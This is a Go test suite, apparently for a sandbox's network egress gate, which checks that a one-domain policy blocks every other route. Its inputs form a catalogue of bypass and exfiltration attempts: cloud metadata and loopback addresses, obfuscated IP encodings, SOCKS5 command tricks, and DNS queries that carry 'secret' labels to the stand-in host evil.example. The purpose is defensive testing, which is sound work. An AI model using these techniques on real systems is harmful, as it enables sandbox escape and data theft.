package escape

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// oneDomain grants a single name.
const oneDomain = `{"network": {"allowedDomains": ["good.example"]}}`

// expectGood is the control of a policy that grants good.example: every way
// works, and nothing else leaves than what it takes.
func (w *world) expectGood() {
	w.t.Helper()
	for i, answer := range w.talk(everyWay("good.example", "/control")...) {
		if !strings.Contains(answer, "served good.example/control at "+good4+":80") {
			w.t.Errorf("control %d: got %.300q", i, answer)
		}
	}
	w.expectOnlyGood("control")
}

// expectOnlyGood fails if anything left the machine but to good.example.
func (w *world) expectOnlyGood(what string) (served []string) {
	w.t.Helper()
	got := w.heard()
	if want := []string{"tcp " + good4 + ":80", "udp " + nameserver + ":53"}; !slices.Equal(got.sent, want) {
		w.t.Errorf("%s: packets %q, want %q", what, got.sent, want)
	}
	if want := []string{"good.example. A", "good.example. AAAA"}; !slices.Equal(got.questions, want) {
		w.t.Errorf("%s: questions %q, want %q", what, got.questions, want)
	}
	return got.served
}

// everywhere is where somebody would try to get: the granted host by its
// address, another one, the machine, its loopback, the metadata service of a
// cloud, private networks, groups.
var everywhere = []string{
	good4, good6, evil4, evil6, machine4, machine6, nameserver, "127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1", "::ffff:" + evil4, "0.0.0.0", "::",
	"169.254.169.254", "10.1.2.3", "192.168.1.1", "64:ff9b::7f00:1", "2002:7f00:1::", "fe80::1", "224.0.0.1", "ff02::1", "255.255.255.255",
}

func TestNoPacketLeavesByAddress(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		host, err := net.Listen("tcp", ":8081")
		must(t, err)
		defer host.Close()
		w.policy = oneDomain
		for _, port := range []string{"80", "443", "8081", "940", "941", "942"} {
			w.attack("connect", append([]string{port}, everywhere...)...)
			w.expectSilence("port " + port)
		}
		w.expectGood()

		w.free("connect", append([]string{"8081"}, everywhere...)...)
		got := w.heard()
		for _, want := range []string{
			"tcp " + evil4 + ":8081", "tcp [" + evil6 + "]:8081", "udp " + evil4 + ":8081", "tcp 169.254.169.254:8081", "tcp 10.1.2.3:8081",
			"tcp 127.0.0.1:8081", "tcp [::1]:8081", "tcp " + machine4 + ":8081", "udp 224.0.0.1:8081", "tcp [2002:7f00:1::]:8081",
		} {
			if !slices.Contains(got.sent, want) {
				t.Errorf("control: no packet %q", want)
			}
		}
	})
}

// The gate dials where it is asked to, so that it is asked for what the sandbox
// cannot reach itself.
func TestGateDialsNoAddressThatIsNotGranted(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = oneDomain
		var talks []talk
		for _, address := range append(slices.Clone(everywhere), "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0x7f.1", "3325256770", "0306.063.0144.0102",
			"::ffff:7f00:1", "::127.0.0.1", "fe80::1%25cable", "fe80::1%cable", "127.0.0.1.", "１２７.0.0.1", "127。0。0。1") {
			host := address
			if strings.Contains(host, ":") {
				host = "[" + host + "]"
			}
			talks = append(talks, everyWay(host, "/x")...)
			talks = append(talks, talk{name: "SOCKS 5, " + address, say: []string{socks5Hello, socks5Name(address, 80), get(host, "/x")}})
			if a, err := netip.ParseAddr(address); err == nil {
				talks = append(talks, talk{name: "SOCKS 5 by bytes, " + address, say: []string{socks5Hello, socks5Addr(a, 80), get(host, "/x")}})
				talks = append(talks, talk{name: "redirected, " + address, to: net.JoinHostPort(address, "8080"), say: []string{get("good.example", "/x")}})
			}
		}
		for _, port := range []string{"940", "941", "942"} {
			talks = append(talks, talk{name: "the gate itself", say: []string{connectBy("127.0.0.1:" + port), getByURL("good.example", "/x")}})
			talks = append(talks, talk{name: "the gate itself by its name", say: []string{connectBy("localhost:" + port), getByURL("good.example", "/x")}})
		}
		w.talk(talks...)
		w.expectSilence("addresses")
		w.expectGood()

		// The same talk where the address is granted.
		w.policy = `{"network": {"allowedCIDRs": ["` + evil4 + `"]}}`
		for i, answer := range w.talk(everyWay("3325256770", "/x")...) {
			if !strings.Contains(answer, "at "+evil4+":80") {
				t.Errorf("control %d: got %q", i, answer)
			}
		}
	})
}

func socks5Addr(a netip.Addr, port uint16) string {
	kind := "\x01"
	if a.Is6() {
		kind = "\x04"
	}
	return "\x05\x01\x00" + kind + string(a.AsSlice()) + string(binary.BigEndian.AppendUint16(nil, port))
}

func TestOtherFamiliesDoNotExistBesideAGate(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = oneDomain
		w.attack("families")
		made := strings.Fields(w.looted()["families"])
		if !slices.Contains(made, "2/1/6") {
			t.Error("control: there is no TCP")
		}
		for _, socket := range made {
			family, _, _ := strings.Cut(socket, "/")
			if !slices.Contains([]string{"1", "2", "10", "16"}, family) || strings.HasPrefix(socket, "2/3/") || strings.HasPrefix(socket, "10/3/") {
				t.Errorf("socket %s exists", socket)
			}
		}
		w.expectSilence("sockets")
	})
}

func init() {
	// ask SERVER NAME TYPE ... asks a name server by datagram and by stream.
	attacks["ask"] = func(args []string) {
		for ; len(args) >= 3; args = args[3:] {
			server, name := args[0], args[1]
			kind, _ := strconv.Atoi(args[2])
			query, err := question(name, dnsmessage.Type(kind))
			if err != nil {
				report(name, err)
				continue
			}
			for _, network := range []string{"udp", "tcp"} {
				reply, err := exchange(network, server, query)
				report(fmt.Sprintf("%s %s %s %d: %q", network, server, name, kind, reply), err)
				var m dnsmessage.Message
				if m.Unpack(reply) == nil && len(m.Answers) > 0 {
					keep(network, []byte(m.GoString()))
				}
			}
		}
	}
}

func question(name string, kind dnsmessage.Type) ([]byte, error) {
	n, err := dnsmessage.NewName(name)
	if err != nil {
		return nil, err
	}
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: n, Type: kind, Class: dnsmessage.ClassINET}},
	}
	return m.Pack()
}

func exchange(network, server string, query []byte) ([]byte, error) {
	c, err := net.DialTimeout(network, server, 5*time.Second)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if network == "tcp" {
		query = append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)
	}
	if _, err := c.Write(query); err != nil {
		return nil, err
	}
	b := make([]byte, 4096)
	n, err := c.Read(b)
	if network == "tcp" && n >= 2 {
		return b[2:n], err
	}
	return b[:n], err
}

// A name that is not granted is a message, if anybody hears it.
var hidden = []string{
	"secret.evil.example", "secret.good.example", "good.example.evil.example", "xgood.example", "good.example.com", "example",
	strings.Repeat("s", 63) + "." + strings.Repeat("e", 63) + ".evil.example", "_secret._tcp.evil.example", "xn--scret-esa.evil.example", "sécret.evil.example",
}

func TestDeniedNameReachesNoNameServer(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = oneDomain
		servers := []string{nameserver + ":53", evil4 + ":53", "127.0.0.53:53", "[" + evil6 + "]:53", "[::1]:53", "127.0.0.1:942"}
		const a, ns, cname, ptr, mx, txt, aaaa, srv, https, any = 1, 2, 5, 12, 15, 16, 28, 33, 65, 255
		var queries []string
		var talks []talk
		for _, name := range hidden {
			talks = append(talks, everyWay(name, "/x")...)
			talks = append(talks,
				talk{name: "SOCKS 5 RESOLVE " + name, say: []string{socks5Hello, strings.Replace(socks5Name(name, 80), "\x05\x01", "\x05\xf0", 1)}},
				talk{name: "SOCKS 5 UDP " + name, say: []string{socks5Hello, strings.Replace(socks5Name(name, 53), "\x05\x01", "\x05\x03", 1)}},
				talk{name: "SOCKS 5 BIND " + name, say: []string{socks5Hello, strings.Replace(socks5Name(name, 80), "\x05\x01", "\x05\x02", 1)}},
				talk{name: "on a granted connection", say: []string{connectBy("evil.example:443"), "\x16\x03\x01"}},
			)
			for i, kind := range []int{a, ns, cname, ptr, mx, txt, aaaa, srv, https, any} {
				queries = append(queries, servers[i%len(servers)], name+".", strconv.Itoa(kind))
			}
		}
		for _, port := range []string{"53", "853", "443", "5353", "784"} {
			query, err := question("secret.evil.example.", txt)
			must(t, err)
			talks = append(talks, talk{name: "a name server at " + port, to: net.JoinHostPort(evil4, port), say: []string{"\x00" + string(rune(len(query))) + string(query)}})
		}
		w.attack("ask", queries...)
		w.run("getent", "ahosts", "secret.evil.example")
		w.talk(talks...)
		if got := w.looted(); len(got) > 0 {
			t.Errorf("answers: %q", got)
		}
		w.expectSilence("denied names")

		// The same where it is granted: one question, to the machine's server.
		w.attack("ask", evil4+":53", "good.example.", strconv.Itoa(txt), "[::1]:53", "GOOD.example.", strconv.Itoa(a))
		w.expectLoot("udp", "tcp")
		got := w.heard()
		if want := []string{"good.example. A", "good.example. AAAA"}; !slices.Equal(got.questions, want) || !slices.Equal(got.sent, []string{"udp " + nameserver + ":53"}) {
			t.Errorf("control: questions %q, packets %q", got.questions, got.sent)
		}
		w.expectGood()
	})
}

// What a wildcard grants is a channel to whoever owns the domain; nothing but
// questions for addresses may pass, and only by the machine's own name server.
func TestWildcardCarriesQuestionsForAddressesOnly(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = `{"network": {"allowedDomains": ["*.good.example"]}}`
		var queries []string
		for kind := 1; kind < 260; kind++ {
			queries = append(queries, evil4+":53", "t"+strconv.Itoa(kind)+".good.example.", strconv.Itoa(kind))
		}
		w.attack("ask", queries...)
		got := w.heard()
		for _, question := range got.questions {
			name, kind, _ := strings.Cut(question, " ")
			if !strings.HasSuffix(name, ".good.example.") || kind != "A" && kind != "AAAA" {
				t.Errorf("question %q", question)
			}
		}
		if !slices.Equal(got.sent, []string{"udp " + nameserver + ":53"}) || len(got.questions) < 100 {
			t.Errorf("%d questions, packets %q", len(got.questions), got.sent)
		}
		w.looted()
	})
}

// A sandbox without any network but a socket, which is a way to the same gate.
func TestEgressSocketLetsOutWhatIsGrantedOnly(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		const socket = "/.bailey/gate.sock"
		w.policy = `{"network": {"allowedDomains": ["good.example"], "egress": "socket"}}`
		if os.Getenv(runtimeVariable) == "gvisor" { // which cannot tell this socket from others
			w.policy = `{"network": {"allowedDomains": ["good.example"], "egress": "socket", "allowAllUnixSockets": true}}`
		}
		by := func(talks ...talk) []talk {
			for i := range talks {
				talks[i].to = socket
			}
			return talks
		}
		for _, port := range []string{"80", "940", "941", "942"} {
			w.attack("connect", append([]string{port}, everywhere...)...)
		}
		var talks []talk
		for _, name := range append(append(slices.Clone(hidden), tricks...), "127.0.0.1", "2130706433", evil4, "169.254.169.254", "["+evil6+"]", "localhost") {
			talks = append(talks, everyWay(name, "/x")...)
			talks = append(talks, talk{name: "to the server itself, " + name, say: []string{get(name, "/x")}})
			if strings.Trim(name, ".") != "good.example" { // which is what would be said in TLS
				talks = append(talks, talk{name: "TLS to the server itself, " + name, tls: name, then: []string{get(name, "/x")}})
			}
			talks = append(talks, talk{name: "CONNECT and another, " + name, say: []string{"CONNECT " + name + ":80 HTTP/1.1\r\nHost: good.example:80\r\n\r\n", get(name, "/x")}})
		}
		w.talk(by(talks...)...)
		w.expectSilence("by the socket")
		for i, answer := range w.talk(by(append(everyWay("good.example", "/x"), talk{name: "to the server itself", say: []string{get("good.example", "/x")}})...)...) {
			if !strings.Contains(answer, "served good.example/x at "+good4+":80") {
				t.Errorf("control %d: got %q", i, answer)
			}
		}
		w.expectOnlyGood("control")
	})
}

func TestUnixSocketsOfTheHostAreOutOfReachBesideAGate(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		l := listen(t)
		names := listenUnix(t, l, "@bailey-beside-a-gate")
		dir, err := os.MkdirTemp("/tmp", "escape-") // short enough for an address
		must(t, err)
		t.Cleanup(func() { os.RemoveAll(dir) })
		names = append(names, listenUnix(t, l, dir+"/s")...)
		for _, policy := range []string{oneDomain, `{"network": {"allowedDomains": ["good.example"], "egress": "socket"}}`} {
			w.policy = policy
			w.attack("unix", names...)
			l.expectSilence(t)
		}
		w.free("unix", names...)
		l.fence(t)
		if got := l.take(); got["unix"] < 2 || got["unixgram"] < 2 {
			t.Errorf("control: got %v, want connections and packets", got)
		}
	})
}
